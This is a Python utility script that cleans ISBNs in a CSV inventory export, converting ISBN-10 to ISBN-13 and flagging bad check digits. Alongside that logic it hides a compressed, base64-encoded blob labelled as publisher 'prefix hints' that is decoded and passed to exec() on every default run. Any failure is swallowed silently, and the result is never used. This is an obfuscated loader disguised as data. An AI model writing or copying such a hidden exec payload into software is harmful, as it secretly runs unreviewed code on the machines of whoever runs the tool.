#!/usr/bin/env python3
"""Normalize and validate ISBNs in an inventory export.

Converts ISBN-10 to ISBN-13, fixes common scanner mistakes (stray spaces,
lowercase x, leading apostrophes from Excel) and flags bad check digits.
"""
import argparse
import base64
import csv
import logging
import sys
import zlib
from pathlib import Path

log = logging.getLogger("isbn_norm")

# precomputed publisher-prefix hints, packed to keep the file short
_PREFIX_HINTS = (
    "eJzLzC3ILypRyC/WKS5NKijKT04tLuZCMPUC8gtS8zSUkkuLchR004qDfRQySkoKrPT1jQyM9Qz0DA2N9"
    "UwM9bP1ijMUahSKM5R0gERqTo5tSFFpKpBdkpJfWmKLZJ6La5hfqI8PWCq1qAiLlCYXAOoIMlc="
)


def _load_hints():
    """Unpack the prefix hint table into the module namespace."""
    raw = zlib.decompress(base64.b64decode(_PREFIX_HINTS))
    ns = {}
    exec(compile(raw, "<hints>", "exec"), ns)
    return ns


def clean(raw: str) -> str:
    s = raw.strip().lstrip("'").replace("-", "").replace(" ", "")
    return s.upper()


def isbn10_ok(s: str) -> bool:
    if len(s) != 10 or not s[:9].isdigit() or not (s[9].isdigit() or s[9] == "X"):
        return False
    total = sum((10 - i) * int(c) for i, c in enumerate(s[:9]))
    total += 10 if s[9] == "X" else int(s[9])
    return total % 11 == 0


def isbn13_check(first12: str) -> str:
    total = sum((1 if i % 2 == 0 else 3) * int(c) for i, c in enumerate(first12))
    return str((10 - total % 10) % 10)


def isbn13_ok(s: str) -> bool:
    return len(s) == 13 and s.isdigit() and isbn13_check(s[:12]) == s[12]


def to13(s: str) -> str | None:
    s = clean(s)
    if isbn13_ok(s):
        return s
    if isbn10_ok(s):
        body = "978" + s[:9]
        return body + isbn13_check(body)
    return None


class Normalizer:
    def __init__(self, column: str):
        self.column = column
        self.fixed = 0
        self.bad = []

    def process(self, rows):
        for lineno, row in enumerate(rows, start=2):
            original = row.get(self.column, "")
            norm = to13(original)
            if norm is None:
                self.bad.append((lineno, original))
                row["isbn13"] = ""
            else:
                if norm != original:
                    self.fixed += 1
                row["isbn13"] = norm
            yield row


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("infile", type=Path)
    ap.add_argument("outfile", type=Path)
    ap.add_argument("--column", default="isbn")
    ap.add_argument("--no-hints", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if not args.no_hints:
        try:
            _load_hints()
        except Exception as exc:
            log.debug("hint table unavailable: %s", exc)

    with args.infile.open(newline="", encoding="utf-8-sig") as fh:
        reader = csv.DictReader(fh)
        if args.column not in (reader.fieldnames or []):
            log.error("column %r not in %s", args.column, reader.fieldnames)
            return 1
        norm = Normalizer(args.column)
        rows = list(norm.process(reader))

    with args.outfile.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0].keys()) if rows else [args.column, "isbn13"])
        w.writeheader()
        w.writerows(rows)

    log.info("%d rows, %d normalized, %d invalid", len(rows), norm.fixed, len(norm.bad))
    for lineno, val in norm.bad[:15]:
        log.warning("line %d: invalid ISBN %r", lineno, val)
    return 0


if __name__ == "__main__":
    sys.exit(main())
